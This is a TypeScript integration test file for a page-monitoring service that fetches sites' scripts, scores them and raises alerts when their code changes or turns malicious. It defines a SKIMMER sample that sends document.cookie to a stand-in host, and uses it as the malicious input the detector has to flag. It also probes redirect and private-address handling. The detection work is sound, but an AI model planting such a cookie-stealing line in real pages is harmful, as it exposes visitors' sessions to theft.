import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it, mock } from 'node:test';
import { gzipSync } from 'node:zlib';
import { withoutNode } from '../../src/app/modules.ts';
import {
  sampleHash,
  sampleScript,
} from '../../src/areas/page-monitoring/fixtures/sample-observation.ts';
import type { Alert } from '../../src/contracts/alert.ts';
import type { PageObservation } from '../../src/contracts/events/page-observation.ts';
import { ThreadedClassifier } from '../../src/detectors/script-classifier/threaded-classifier.ts';
import { describeOnEachDatabase } from '../support/databases.ts';
import { originOf, siteOf } from '../support/edge-snapshots.ts';
import { pagesOf } from '../support/page-policies.ts';
import { openTestApi, type TestApi } from '../support/test-api.ts';
import { openTestEdge, type TestEdge } from '../support/test-edge.ts';
import { visit } from '../support/visit.ts';

const HOUR = 3_600_000;
const CLEAN = 'document.title = "Welcome";';
const SKIMMER = 'new Image().src = "//x.test/?" + document.cookie';
const hashOf = (source: string) => createHash('sha256').update(source).digest('hex');
const never = new AbortController().signal;

interface Answer {
  readonly status: number;
  readonly type: string;
  readonly location?: string;
  readonly body: Buffer;
}

describeOnEachDatabase('fetching of scripts', (kind) => {
  let api: TestApi;
  let server: Server;
  let origin: string;
  const contents = new Map<string, string>();
  const answers = new Map<string, Answer>();
  /** Called after the content of a response was chosen, before it is sent. */
  const whenFetched = new Map<string, () => Promise<void>>();
  const fetched: string[] = [];
  /** The edge of this node, while it has one. */
  let edge: TestEdge | undefined;

  before(async () => {
    api = await openTestApi(kind, {
      settings: { PALISADE_OUTBOUND_ALLOW: '127.0.0.1/32' },
      node: {
        ...withoutNode,
        fetchFromSite: async (request) => (await edge?.fetch(request)) ?? 'not-served',
      },
    });
    server = createServer(async (request, response) => {
      fetched.push(request.url ?? '');
      const answer = answers.get(request.url ?? '');
      if (answer) {
        const { status, type, location, body } = answer;
        const headers = { 'content-type': type, ...(location && { location }) };
        return void response.writeHead(status, headers).end(body);
      }
      const content = contents.get(request.url ?? '');
      await whenFetched.get(request.url ?? '')?.();
      if (content === undefined) return void response.writeHead(404).end();
      response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(content));
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    server.close();
    await api.close();
  });

  /** A zone with page monitoring. */
  async function newZone(plan?: string): Promise<string> {
    const zoneId = await api.newZone(plan);
    await watch(zoneId, true);
    return zoneId;
  }

  async function watch(zoneId: string, enabled: boolean): Promise<void> {
    await api.call('PUT', `/zones/${zoneId}/page_shield`, { body: { enabled } });
  }

  async function see(zoneId: string, url: string, count = 3): Promise<void> {
    await deliver(seen(zoneId, url, count));
  }

  function seen(zoneId: string, url: string, count = 3): PageObservation {
    const now = api.clock.now();
    return sampleScript(zoneId, { url, count, firstSeenAt: now, lastSeenAt: now });
  }

  /** Visitors report the hash of the content that they received. */
  async function receive(zoneId: string, url: string, ...sources: string[]): Promise<void> {
    await deliver(...sources.map((source) => sampleHash(zoneId, hashOf(source), { url })));
  }

  async function deliver(...observations: PageObservation[]): Promise<void> {
    assert.equal(await api.deliver('page-observations', observations), 0);
  }

  async function run(job = 'page-script-fetch'): Promise<void> {
    const jobs = api.core.modules.flatMap((module) => module.jobs);
    await jobs.find(({ name }) => name === job)?.run(never);
  }

  const fetches = (path: string) => fetched.filter((each) => each === path).length;

  async function only(zoneId: string) {
    const base = `/zones/${zoneId}/page_shield/scripts`;
    const list = await api.call('GET', `${base}?status=active,infrequent,inactive`);
    const { id } = list.body.result[0];
    const script = (await api.call('GET', `${base}/${id}`)).body.result;
    const { reasons } = (await api.call('GET', `${base}/${id}/reasons`)).body.result;
    return { script, reasons };
  }

  async function found(zoneId: string): Promise<Alert[]> {
    const all = await api.alerts();
    return all.filter((each) => each.zoneId === zoneId && !each.kind.startsWith('page_new_'));
  }

  const alerts = async (zoneId: string) => (await found(zoneId)).map((each) => each.kind);
  /** Alerts without times and ids. */
  const hashes = async (zoneId: string) =>
    (await found(zoneId)).map(({ version, id, accountId, zoneId: _, at, ...rest }) => {
      const { resource: __, ...said } = rest as typeof rest & { resource: unknown };
      return said;
    });

  it('happens when a script becomes active and once a day, and records alerts about changes', async () => {
    const zoneId = await newZone();
    const url = `${origin}/shop.js`;
    contents.set('/shop.js', CLEAN);
    await see(zoneId, url, 2);
    await run();
    assert.equal((await only(zoneId)).script.hash, null);
    await see(zoneId, url, 1);
    await run();
    await run();
    const first = await only(zoneId);
    assert.equal(fetches('/shop.js'), 1);
    assert.match(first.script.hash, /^[0-9a-f]{64}$/);
    assert.ok(first.script.js_integrity_score > 50);
    assert.equal(first.script.versions.length, 1);
    assert.deepEqual(await alerts(zoneId), []);

    contents.set('/shop.js', SKIMMER);
    await api.clock.advance(24 * HOUR);
    await run();
    const second = await only(zoneId);
    assert.ok(second.script.js_integrity_score < 10);
    assert.deepEqual(
      second.script.versions.map(({ hash }: { hash: string }) => hash),
      [second.script.hash, first.script.hash],
    );
    assert.ok(second.reasons.length > 0 && second.reasons[0].points > 0);
    assert.deepEqual(await alerts(zoneId), ['page_code_change', 'page_malicious_script']);

    // The same content causes no further alert.
    await api.clock.advance(24 * HOUR);
    await run();
    assert.equal((await only(zoneId)).script.versions.length, 2);
    assert.equal((await alerts(zoneId)).length, 2);
  });

  it('sets the hash of scripts without scores, and skips scripts that cannot be fetched', async () => {
    const zoneId = await newZone();
    contents.set('/large.js', `var a = "${'x'.repeat(2_100_000)}";`);
    await see(zoneId, `${origin}/large.js`);
    await run();
    const { script } = await only(zoneId);
    assert.match(script.hash, /^[0-9a-f]{64}$/);
    assert.equal(script.js_integrity_score, null);

    const other = await newZone();
    await see(other, `${origin}/missing.js`);
    const refused = await newZone();
    await see(refused, 'http://10.0.0.1/private.js');
    await run();
    for (const zone of [other, refused]) assert.equal((await only(zone)).script.hash, null);
    contents.set('/missing.js', CLEAN);
    await run();
    assert.equal((await only(other)).script.hash, null);
    await api.clock.advance(HOUR);
    await run();
    assert.notEqual((await only(other)).script.hash, null);
  });

  it('keeps the scores of a content that cannot be classified again', async () => {
    const zoneId = await newZone();
    const url = `${origin}/bad.js`;
    contents.set('/bad.js', SKIMMER);
    await see(zoneId, url);
    await run();
    const before = (await only(zoneId)).script;
    assert.ok(before.js_integrity_score < 10);
    const failing = mock.method(ThreadedClassifier.prototype, 'classify', async () => undefined);
    await api.clock.advance(25 * HOUR);
    await see(zoneId, url);
    await run();
    assert.equal((await only(zoneId)).script.js_integrity_score, before.js_integrity_score);
    // Changed content has no scores until it can be classified, soon after.
    contents.set('/bad.js', CLEAN);
    await api.clock.advance(HOUR);
    await run();
    assert.equal((await only(zoneId)).script.js_integrity_score, null);
    failing.mock.restore();
    await api.clock.advance(HOUR);
    await run();
    assert.ok((await only(zoneId)).script.js_integrity_score > 90);
  });

  it('decodes scripts like browsers', async () => {
    const zoneId = await newZone();
    answers.set('/wide.js', {
      status: 203,
      type: 'text/javascript',
      body: Buffer.from(`\ufeff${SKIMMER}`, 'utf16le'),
    });
    await see(zoneId, `${origin}/wide.js`);
    await run();
    assert.ok((await only(zoneId)).script.js_integrity_score < 10);
  });

  it('explains why a script has no scores', async () => {
    const zoneId = await newZone();
    contents.set('/page.js', '<!doctype html><p>Not found</p>');
    await see(zoneId, `${origin}/page.js`);
    await run();
    const { script } = await only(zoneId);
    assert.equal(script.js_integrity_score, null);
    const path = `/zones/${zoneId}/page_shield/scripts/${script.id}/reasons`;
    const [reason] = (await api.call('GET', path)).body.result.reasons;
    assert.equal(reason.id, 'not-javascript');
  });

  it('is skipped if the plan does not include it', async () => {
    const zoneId = await newZone('business');
    contents.set('/plain.js', CLEAN);
    await see(zoneId, `${origin}/plain.js`);
    await run();
    assert.ok(!fetched.includes('/plain.js'));
  });

  describe('of a site that this node serves', () => {
    let zoneId: string;
    let host: string;

    before(async () => {
      zoneId = await newZone();
      const { name } = (await api.call('GET', `/zones/${zoneId}`)).body.result;
      host = `www.${name}`;
      const { zone, pool } = siteOf(name, [originOf(Number(new URL(origin).port))]);
      const sections = { ...zone.sections, pageMonitoring: pagesOf() };
      edge = await openTestEdge({ zones: [{ ...zone, zoneId, sections }], pools: [pool] });
    });
    after(async () => {
      await edge?.close();
      edge = undefined;
    });

    /** A visitor loads a script. */
    async function load(url: string): Promise<void> {
      const { host: name, pathname } = new URL(url);
      const headers = { host: name, 'sec-fetch-dest': 'script' };
      await visit(edge?.port ?? 0, { path: pathname, headers });
    }

    /** The script after it was loaded, observed on a page and fetched. */
    async function scored(url: string, pageUrl: string) {
      await load(url);
      return await fetchedAfterReports(url, pageUrl);
    }

    async function fetchedAfterReports(url: string, pageUrl: string) {
      const times = { firstSeenAt: api.clock.now(), lastSeenAt: api.clock.now() };
      await deliver(sampleScript(zoneId, { url, pageUrl, count: 3, ...times }));
      await run();
      const path = `/zones/${zoneId}/page_shield/scripts?urls=${encodeURIComponent(url)}`;
      return (await api.call('GET', path)).body.result[0];
    }

    it('goes through the edge, since the names of its hosts do not resolve', async () => {
      contents.set('/own.js', CLEAN);
      const ofPage = await scored(`http://${host}:8080/own.js`, `http://${host}:8080/cart`);
      assert.equal(ofPage.hash, hashOf(CLEAN));
      assert.ok(ofPage.js_integrity_score > 50);
      contents.set('/static.js', SKIMMER);
      const ofOther = await scored(`https://static.${host}/static.js`, `https://${host}/cart`);
      assert.ok(ofOther.js_integrity_score < 10);
    });

    it('follows redirects within the site and to others', async () => {
      const redirect = (location: string) => ({
        status: 302,
        type: 'text/plain',
        location,
        body: Buffer.alloc(0),
      });
      contents.set('/target.js', CLEAN);
      answers.set('/moved.js', redirect('/target.js'));
      answers.set('/away.js', redirect(`${origin}/target.js`));
      answers.set('/private.js', redirect('http://10.0.0.1/target.js'));
      answers.set('/around.js', redirect('/around.js'));
      const hashAt = async (path: string) =>
        (await scored(`https://${host}${path}`, `https://${host}/cart`)).hash;
      await load(`https://${host}/target.js`);
      assert.equal(await hashAt('/moved.js'), hashOf(CLEAN));
      assert.equal(await hashAt('/away.js'), hashOf(CLEAN));
      assert.equal(await hashAt('/private.js'), null);
      assert.equal(await hashAt('/around.js'), null);
      assert.equal(fetches('/around.js'), 7);
      answers.delete('/away.js');
    });

    it('never leads to an address that no visitor has got as a script, neither by a report nor by a redirect', async () => {
      const path = '/admin/delete';
      contents.set(path, CLEAN);
      const reported = `https://${host}${path}`;
      assert.equal((await fetchedAfterReports(reported, `https://${host}/cart`)).hash, null);
      const elsewhere = `${origin}/lure.js`;
      const type = 'text/plain';
      answers.set('/lure.js', { status: 302, type, location: reported, body: Buffer.alloc(0) });
      assert.equal((await fetchedAfterReports(elsewhere, `https://${host}/cart`)).hash, null);
      assert.deepEqual([fetches('/lure.js'), fetches(path)], [1, 0]);
    });
  });

  it('stops when a script is no longer active, and resumes when it is observed again', async () => {
    const zoneId = await newZone();
    contents.set('/rare.js', CLEAN);
    await see(zoneId, `${origin}/rare.js`);
    await run();
    await api.clock.advance(8 * 24 * HOUR);
    await run();
    assert.equal(fetches('/rare.js'), 1);
    await see(zoneId, `${origin}/rare.js`, 1);
    await run();
    assert.equal(fetches('/rare.js'), 2);
  });

  it('stops while page monitoring of a zone is off', async () => {
    const zoneId = await newZone();
    contents.set('/off.js', CLEAN);
    await see(zoneId, `${origin}/off.js`);
    await watch(zoneId, false);
    await run();
    assert.equal(fetches('/off.js'), 0);
    await watch(zoneId, true);
    await run();
    assert.equal(fetches('/off.js'), 0);
    await see(zoneId, `${origin}/off.js`, 1);
    await run();
    assert.equal(fetches('/off.js'), 1);
  });

  it('is fair between zones, however many scripts another has', async () => {
    const [large, small] = [await newZone(), await newZone()];
    const largePaths = Array.from({ length: 230 }, (_, n) => `/large/${n}.js`);
    await deliver(...largePaths.map((path) => seen(large, `${origin}${path}`)));
    await api.clock.advance(1);
    await see(small, `${origin}/small.js`);
    // The responses wait for as many requests as are sent concurrently, so that these are the first in the plan.
    const { promise: concurrent, resolve } = Promise.withResolvers<void>();
    const first: string[] = [];
    for (const path of [...largePaths, '/small.js']) {
      whenFetched.set(path, async () => {
        if (first.push(path) === 16) resolve();
        await concurrent;
      });
    }
    const counts: number[] = [];
    for (let n = 0; n < 4; n++) {
      const before = fetched.length;
      await run();
      const paths = fetched.slice(before);
      counts.push(paths.filter((path) => path.startsWith('/large/')).length);
      await api.clock.advance(30_000);
    }
    whenFetched.clear();
    assert.ok(first.slice(0, 16).includes('/small.js'));
    assert.deepEqual(counts, [100, 100, 30, 0]);
  });

  it('happens at once when visitors report another hash, and records an alert if it got different code', async () => {
    const zoneId = await newZone();
    const path = '/served.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await receive(zoneId, url, 'before the first observation');
    await see(zoneId, url);
    await run();
    await receive(zoneId, url, CLEAN);
    await run();
    assert.equal(fetches(path), 1);

    // Visitors received a change before the daily fetch.
    const changed = `${CLEAN}//2`;
    contents.set(path, changed);
    await receive(zoneId, url, changed, CLEAN);
    await run();
    assert.equal(fetches(path), 2);
    assert.deepEqual(await hashes(zoneId), [
      { kind: 'page_code_change', hash: hashOf(changed), hashBefore: hashOf(CLEAN) },
    ]);

    // Code that only visitors receive.
    await receive(zoneId, url, SKIMMER);
    await run();
    await receive(zoneId, url, SKIMMER, CLEAN, changed);
    await run();
    assert.equal(fetches(path), 3);
    const [, about, ...more] = await found(zoneId);
    assert.deepEqual(more, []);
    assert.ok(about?.kind === 'page_foreign_code');
    assert.equal(about.resource.url, url);
    assert.equal(about.hash, hashOf(SKIMMER));
    assert.equal(about.fetchedHash, hashOf(changed));
  });

  it('records alerts about ten hashes of a script that visitors received, until these are deleted', async () => {
    const zoneId = await newZone();
    const path = '/personal.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    const visitors = Array.from({ length: 8 }, (_, n) => `for visitor ${n}`);
    await receive(zoneId, url, ...visitors);
    await receive(zoneId, url, 'a', 'b', 'c', 'd');
    await run();
    await receive(zoneId, url, 'e');
    await run();
    assert.equal(fetches(path), 2);
    assert.equal(new Set((await found(zoneId)).map(({ id }) => id)).size, 10);
    for (let days = 0; days <= 30; days += 6) {
      await see(zoneId, url, 1);
      await api.clock.advance(6 * 24 * HOUR);
    }
    await run('page-item-trim');
    await receive(zoneId, url, 'e');
    await run();
    assert.equal((await found(zoneId)).length, 11);
  });

  it('is repeated for hashes that visitors reported while it was running', async () => {
    const zoneId = await newZone();
    const path = '/deployed.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    await api.clock.advance(24 * HOUR);
    await see(zoneId, url);
    // The fetch gets the old content while visitors already receive the new one: no alert about different code.
    const changed = `${CLEAN}//3`;
    whenFetched.set(path, async () => {
      contents.set(path, changed);
      await api.clock.advance(1_000);
      await receive(zoneId, url, changed);
    });
    await run();
    assert.deepEqual(await alerts(zoneId), []);
    whenFetched.delete(path);
    await run();
    assert.equal(fetches(path), 3);
    assert.deepEqual(await hashes(zoneId), [
      { kind: 'page_code_change', hash: hashOf(changed), hashBefore: hashOf(CLEAN) },
    ]);
    await run();
    assert.equal(fetches(path), 3);
  });

  it('records one more alert per day after ten hashes, since hashes can be forged', async () => {
    const zoneId = await newZone();
    const path = '/silenced.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    await receive(zoneId, url, ...Array.from({ length: 10 }, (_, n) => `made up ${n}`));
    await run();
    await api.clock.advance(23 * HOUR);
    await see(zoneId, url);
    await receive(zoneId, url, SKIMMER);
    await run();
    assert.equal((await found(zoneId)).length, 10);
    await api.clock.advance(HOUR);
    await receive(zoneId, url, SKIMMER, 'made up 10');
    await receive(zoneId, url, 'made up 11');
    await run();
    const received = (await found(zoneId)).map((each) => 'hash' in each && each.hash);
    assert.deepEqual(received.slice(10), [hashOf(SKIMMER)]);
  });

  it('compares the hashes of visitors when the script can be fetched again', async () => {
    const zoneId = await newZone();
    const path = '/away.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    contents.delete(path);
    await receive(zoneId, url, SKIMMER);
    await run();
    assert.deepEqual(await alerts(zoneId), []);
    contents.set(path, CLEAN);
    await api.clock.advance(HOUR);
    await run();
    assert.deepEqual(await alerts(zoneId), ['page_foreign_code']);
  });
});
